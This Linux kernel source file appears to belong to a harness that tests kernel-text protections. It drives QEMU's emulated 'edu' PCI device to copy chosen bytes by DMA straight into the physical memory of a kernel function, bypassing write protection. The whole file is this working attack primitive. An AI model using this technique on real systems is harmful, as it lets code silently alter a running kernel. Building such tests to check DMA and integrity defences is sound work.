// SPDX-License-Identifier: GPL-2.0-only
/* Kernel text by DMA of an emulated device: QEMU's "edu", which copies where it is told. */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/pci.h>

#include "attack.h"

#define EDU_VENDOR     0x1234
#define EDU_DEVICE     0x11e8
#define EDU_DMA_SOURCE 0x80
#define EDU_DMA_TARGET 0x88
#define EDU_DMA_COUNT  0x90
#define EDU_DMA_START  0x98
#define EDU_RUN	       1
#define EDU_TO_RAM     2
#define EDU_BUFFER     0x40000

static int transfer(void __iomem *bar, u64 source, u64 target, size_t len, u64 direction)
{
	writeq(source, bar + EDU_DMA_SOURCE);
	writeq(target, bar + EDU_DMA_TARGET);
	writeq(len, bar + EDU_DMA_COUNT);
	writeq(EDU_RUN | direction, bar + EDU_DMA_START);
	for (int i = 0; i < 500; i++) {
		if (!(readq(bar + EDU_DMA_START) & EDU_RUN))
			return 0;
		msleep(10);
	}
	return -ETIMEDOUT;
}

static int write_text(void *at, const void *bytes, size_t len)
{
	struct pci_dev *edu = pci_get_device(EDU_VENDOR, EDU_DEVICE, NULL);
	void *source = kmemdup(bytes, len, GFP_KERNEL);
	void __iomem *bar = NULL;
	int r = -ENODEV;

	if (edu && source && !pci_enable_device(edu)) {
		pci_set_master(edu);
		bar = pci_iomap(edu, 0, 0);
	}
	if (bar) {
		r = transfer(bar, virt_to_phys(source), EDU_BUFFER, len, 0);
		if (!r)
			r = transfer(bar, EDU_BUFFER, attack_pa(at), len, EDU_TO_RAM);
		pci_iounmap(edu, bar);
	}
	kfree(source);
	pci_dev_put(edu);
	return r;
}

ATTACK_TEXT(write_text, devinfo_show, "text by a device's DMA");
